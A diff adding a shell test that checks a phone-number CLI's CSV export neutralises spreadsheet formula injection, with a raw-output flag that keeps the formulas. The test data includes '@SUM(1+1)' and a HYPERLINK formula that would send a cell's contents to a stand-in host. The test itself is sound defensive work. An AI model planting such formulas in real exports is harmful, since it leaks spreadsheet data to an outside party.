@@ -65,3 +65,15 @@ doc() { printf '%%PDF proof' > "$TEST_DIR/proof.pdf"; echo "$TEST_DIR/proof.pdf"
   env -u USER -u NUMCTL_ACTOR "$NUMCTL_BIN" buy +4915123456789 >/dev/null
   [ "$(numctl history +4915123456789 --json | jq -r '.[0].actor')" = "$(id -un)" ]
 }
+
+@test "CSV neutralises cells a spreadsheet would run as formulas, except the E.164 number; --csv-raw keeps them" {
+  numctl team add '@SUM(1+1)' >/dev/null
+  numctl buy +4915123456789 --team '@SUM(1+1)' --label '=HYPERLINK("http://x/?"&A1,"click")' >/dev/null
+  row=$(numctl list --format csv | sed -n 2p)
+  [[ "$row" == "+4915123456789,'+49 1512 3456789,DE,mobile,active,'@SUM(1+1),,"* ]]
+  echo "$row" | grep -qF "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""
+  [ "$(numctl team list --format csv | sed -n 2p)" = $'\'@SUM(1+1),1,0\r' ]
+  raw=$(numctl --csv-raw list --format csv | sed -n 2p)
+  [[ "$raw" == "+4915123456789,+49 1512 3456789,DE,mobile,active,@SUM(1+1),,"* ]]
+  echo "$raw" | grep -qF '"=HYPERLINK('
+}
